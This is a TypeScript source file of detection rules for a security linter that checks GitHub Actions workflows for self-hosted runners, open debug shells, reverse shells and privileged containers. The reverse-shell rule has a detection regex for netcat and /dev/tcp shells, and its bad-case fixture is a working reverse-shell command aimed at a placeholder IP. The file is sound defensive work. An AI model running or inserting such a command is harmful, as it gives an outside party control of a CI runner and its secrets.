import { lookIn, mapsOf, scalar, truth, type MapValue, type Value } from '../../server/rule/queries.ts';
import { setTo } from '../_fixes.ts';
import { mapOfResource, objectRule } from '../_kubernetes.ts';
import { sourceOf } from '../_source.ts';
import { conditionsOf, file, steps, workflow } from '../_workflows.ts';

export default [
  objectRule({
    id: 'workload/self-hosted-runner',
    title: "Job on a machine of one's own",
    severity: 'info',
    confidence: 'medium',
    types: ['github_job'],
    file,
    what: 'Reports jobs on self-hosted runners.',
    why: 'What a job leaves on the machine meets the next one; in a public repository strangers can start jobs there.',
    references: ['AC-6', 'SC-39'],
    whenNotToUse: 'For runners that are made anew for every job.',
    check: (resource, tell) => {
      const direct = lookIn(mapOfResource(resource), 'runs-on')
        .values.flatMap((value) =>
          value.kind === 'list'
            ? value.items
            : value.kind === 'map'
              ? [value.entries.get('labels')?.value ?? value, value.entries.get('group')?.value ?? value]
              : [value],
        )
        .flatMap((value) => (value.kind === 'list' ? value.items : [value]));
      const named = direct.flatMap((value) => (value.kind === 'string' ? [/^\$\{\{\s*matrix\.([\w-]+)/.exec(value.value)?.[1] ?? []].flat() : []));
      const strategy = lookIn(mapOfResource(resource), 'strategy.matrix').values[0];
      const excluded = lookIn(mapOfResource(resource), 'strategy.matrix.exclude')
        .values.flatMap((value) => (value.kind === 'list' ? value.items : [value]))
        .flatMap(mapsOf);
      const expanded: Value[] =
        strategy?.kind === 'map'
          ? named.flatMap((name) =>
              [...lookIn(strategy, name).values, ...lookIn(strategy, `include.${name}`).values]
                .flatMap((value) => (value.kind === 'list' ? value.items.flatMap((item) => (item.kind === 'list' ? item.items : [item])) : [value]))
                .filter((value) => !excluded.some((map: MapValue) => scalar(map.entries.get(name)?.value) === scalar(value))),
            )
          : [];
      // An expression that gives the label, in one of its cases or in a list: `fromJSON('["self-hosted"]')`.
      const isOwn = (text: string): boolean => text === 'self-hosted' || (text.includes('${{') && /['"]self-hosted['"]/.test(text.replace(/[=!]= ?'self-hosted'/g, '')));
      const hit =
        [...direct, ...expanded].find((value) => value.kind === 'string' && isOwn(value.value)) ??
        direct.find((value, index) => index > 0 && value.kind === 'map');
      const group = lookIn(mapOfResource(resource), 'runs-on.group').values[0];
      if (!hit && group && lookIn(mapOfResource(resource), 'runs-on.labels').values.length === 0)
        tell(group, `Job "${resource.name}" runs on a group of machines that may be one's own.`);
      if (hit) tell(direct[0]?.kind === 'string' && expanded.includes(hit) ? direct[0] : hit, `Job "${resource.name}" runs on a machine of its own.`);
    },
    bad: 'name: train\non: push\npermissions: {}\njobs:\n  a:\n    runs-on: self-hosted\n             ^^^^^^^^^^^\n    steps:\n      - run: make\n',
    good: workflow('push', ...steps('- run: make')),
  }),
  objectRule({
    id: 'workload/workflow-debug-shell',
    title: 'Shell on the runner for whoever has its address',
    severity: 'low',
    confidence: 'medium',
    types: ['github_step'],
    file,
    what: 'Reports actions that open a shell on the runner, where their access is not limited to the person who started the run.',
    why: 'The address stands in the log: whoever reads it has the token and the secrets of the job.',
    references: ['CWE-306', 'AC-3', 'CM-7'],
    check: (resource, tell, context) => {
      const uses = resource.attributes.get('uses')?.value;
      if (uses?.kind !== 'string' || !/^(?:mxschmitt\/action-tmate|lhotari\/action-upterm|csexton\/debugger-action|tmate-io\/[\w-]+)@/i.test(uses.value)) return;
      const own = mapOfResource(resource);
      if (conditionsOf(resource, context).some((one) => /inputs\.|runner\.debug|workflow_dispatch/.test(one))) return;
      if (lookIn(own, 'with.limit-access-to-users').values.length > 0 || lookIn(own, 'with.limit-access-to-actor').values.some((value) => truth(value) !== false)) return;
      tell(uses, `"${resource.name}" opens a shell on the runner to whoever has its address.`, setTo(resource, 'with.limit-access-to-actor', true));
    },
    bad: workflow('push', ...steps('- uses: mxschmitt/action-tmate@c0afd6f790e3a5564914980036ebf83216678101', `        ${'^'.repeat('mxschmitt/action-tmate@c0afd6f790e3a5564914980036ebf83216678101'.length)}`)),
    fixed: true,
    good: workflow('push', ...steps('- uses: mxschmitt/action-tmate@c0afd6f790e3a5564914980036ebf83216678101', '  with:', '    limit-access-to-actor: true')),
  }),
  objectRule({
    id: 'workload/reverse-shell',
    title: 'Shell for somebody else',
    severity: 'high',
    types: ['github_step'],
    file,
    what: 'Reports scripts that connect a shell to a network address.',
    why: 'Whoever listens there commands the runner and has its secrets.',
    references: ['CWE-506', 'SI-3'],
    check: (resource, tell) => {
      const run = resource.attributes.get('run')?.value;
      if (
        run?.kind === 'string' &&
        /\b(?:nc|ncat|netcat)\b[^\n]*(?:-e|-c)\b|bash\s+-i\s*>&\s*\/dev\/tcp\/|\b(?:nc|ncat|netcat)\s+(?:-\w+\s+)*\d{1,3}(?:\.\d{1,3}){3}/.test(run.value)
      )
        tell(run, `"${resource.name}" connects a shell to the network.`);
    },
    bad: workflow('push', ...steps('- run: nc -e /bin/sh 203.0.113.4 4444', '       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^')),
    good: workflow('push', ...steps('- run: make')),
  }),
  objectRule({
    id: 'workload/workflow-privileged-run',
    title: 'Container that a step runs with rights on its machine',
    severity: 'low',
    confidence: 'medium',
    types: ['github_step'],
    file,
    what: 'Reports `docker run` in steps with `--privileged`, with the socket of Docker, the root folder or the processes of the machine.',
    why: 'What runs in the container, also the code of a dependency, then commands the runner and reads its secrets.',
    references: ['CWE-250', 'AC-6', 'CM-6'],
    noFix: 'What the container needs has to be known.',
    whenNotToUse: 'For builds of images that cannot do without.',
    check: (resource, tell, context) => {
      for (const run of lookIn(mapOfResource(resource), 'run').values) {
        const { path, range } = run.origin;
        const text = sourceOf(context, { path, range });
        for (const match of text.matchAll(
          /^(?![ \t]*#).*?\b(?:docker|podman)\s+(?:container\s+)?run\b(?:[^\n;|&]|\\\n)*?\s(--privileged\b|--pid[= ]host\b|(?:-v|--volume)[= ]?["']?(?:\/:|\/var\/run\/docker\.sock:)\S*)/gm,
        )) {
          const start = range.start + match.index + match[0].length - match[1]!.length;
          const origin = { path, range: { start, end: start + match[1]!.length } };
          tell({ kind: 'null', origin, at: origin }, `A container of "${resource.name}" has rights on its machine.`);
        }
      }
    },
    bad: workflow('push', ...steps('- run: docker run --privileged acme/build', '                  ^^^^^^^^^^^^')),
    good: workflow('push', ...steps('- run: docker run --read-only acme/build')),
  }),
];
